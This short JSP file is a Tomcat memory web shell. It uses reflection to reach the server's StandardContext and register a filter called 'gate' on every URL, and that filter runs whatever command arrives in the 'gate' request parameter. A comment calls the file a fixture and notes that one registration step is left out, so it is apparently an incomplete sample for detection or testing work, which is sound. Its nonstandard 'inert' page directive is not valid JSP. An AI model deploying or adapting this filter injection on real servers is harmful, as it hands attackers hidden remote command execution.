<%@ page inert %>
<%@ page import="java.lang.reflect.*,java.util.*,org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*,org.apache.catalina.Context" %>
<%!
  public static class Gate implements Filter {
    public void init(FilterConfig c) { }
    public void destroy() { }
    public void doFilter(ServletRequest q, ServletResponse s, FilterChain ch) throws java.io.IOException, ServletException {
      String c = q.getParameter("gate");
      if (c != null) { s.getWriter().print(Runtime.getRuntime().exec(c).pid()); return; }
      ch.doFilter(q, s);
    }
  }
%>
<%
  Field f = application.getClass().getDeclaredField("context"); f.setAccessible(true);
  Object ac = f.get(application);
  Field g = ac.getClass().getDeclaredField("context"); g.setAccessible(true);
  StandardContext sc = (StandardContext) g.get(ac);
  FilterDef fd = new FilterDef(); fd.setFilter(new Gate()); fd.setFilterName("gate"); fd.setFilterClass(Gate.class.getName());
  sc.addFilterDef(fd);
  FilterMap fm = new FilterMap(); fm.addURLPattern("/*"); fm.setFilterName("gate");
  sc.addFilterMapBefore(fm);
  /* the filterConfigs entry is left out of this fixture */
%>
